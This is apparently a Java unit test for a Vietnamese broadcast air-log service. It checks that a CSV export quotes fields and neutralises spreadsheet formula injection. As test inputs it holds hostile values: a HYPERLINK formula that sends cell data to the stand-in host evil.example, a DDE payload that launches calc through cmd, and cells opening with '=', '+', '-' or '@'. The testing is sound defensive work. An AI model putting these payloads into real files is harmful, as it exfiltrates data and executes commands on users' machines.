package vn.loaxa.airlog;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Set;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import vn.loaxa.airlog.AirLogRecords.BroadcastEnd;
import vn.loaxa.airlog.AirLogRecords.BroadcastStart;
import vn.loaxa.airlog.AirLogRecords.PlayedItem;
import vn.loaxa.schedule.Priority;
import vn.loaxa.testing.Api;
import vn.loaxa.testing.SpringTest;

/**
 * A broadcast whose title, item title and village name were written by an attacker, aired and
 * logged, then downloaded as /api/airlog.csv over HTTP and read back with Commons CSV: every field
 * is quoted, no field (nor any piece of it Excel could make a cell of with ';' or tab) starts a
 * formula, NUL and ESC are gone, and the rest of the text is there. Its day (9 September 2029)
 * belongs to this class only.
 */
class HostileCsvTest extends SpringTest {

    private static final String KEY = "O9@2029-09-09";
    private static final Instant PLANNED = Instant.parse("2029-09-08T23:00:00Z"); // 06:00 station time
    private static final String TITLE = "x;=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")\u0000\u001B[2J";

    @LocalServerPort
    int port;
    @Autowired
    AirLogService airLog;

    @Test
    void a_hostile_title_comes_out_of_the_air_log_csv_as_text() throws Exception {
        if (airLog.loggedKeys(Set.of(KEY)).isEmpty()) {
            var started = airLog.broadcastStarted(new BroadcastStart(KEY, TITLE, PLANNED, PLANNED.plusMillis(5),
                    60_000, List.of(1L), List.of("-Thôn\t=9"), Priority.NORMAL, Trigger.OPERATOR, "admin"));
            airLog.itemPlayed(started, new PlayedItem(1, "BULLETIN", "@SUM(1+1)*cmd|' /C calc'!A0", null, null,
                    null, null, "e".repeat(64), 60_000, 60_000, Outcome.COMPLETED));
            airLog.broadcastEnded(started, new BroadcastEnd(PLANNED.plusMillis(60_010), 60_005, Outcome.COMPLETED,
                    "+ ghi chú"));
            ScratchAirLog.flush(airLog);
        }

        var response = new Api(port).getBytes("/api/airlog.csv?from=2029-09-09&to=2029-09-09", "admin",
                ADMIN_PASSWORD);
        assertThat(response.statusCode()).isEqualTo(200);
        var text = new String(response.body(), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF").doesNotContain("\u0000", "\u001B");
        List<CSVRecord> records = CSVFormat.EXCEL.parse(new StringReader(text.substring(1))).getRecords();
        assertThat(records).hasSize(3);
        var broadcast = records.get(1);
        assertThat(broadcast.get(1)).isEqualTo(KEY);
        assertThat(broadcast.get(2)).isEqualTo("x;'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")[2J");
        assertThat(broadcast.get(9)).isEqualTo("'-Thôn\t'=9");
        assertThat(broadcast.get(13)).isEqualTo("'+ ghi chú");
        assertThat(records.get(2).get(2)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");

        // Every field quoted; Excel splitting on ';', ',' or tab finds no cell that starts a formula.
        for (var line : text.substring(1).split("\r\n")) {
            assertThat(line).startsWith("\"").endsWith("\"");
            for (var piece : line.split("[;,\t]")) {
                var cell = piece.replaceFirst("^[ \"]+", "");
                assertThat(cell).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@");
            }
        }
    }
}
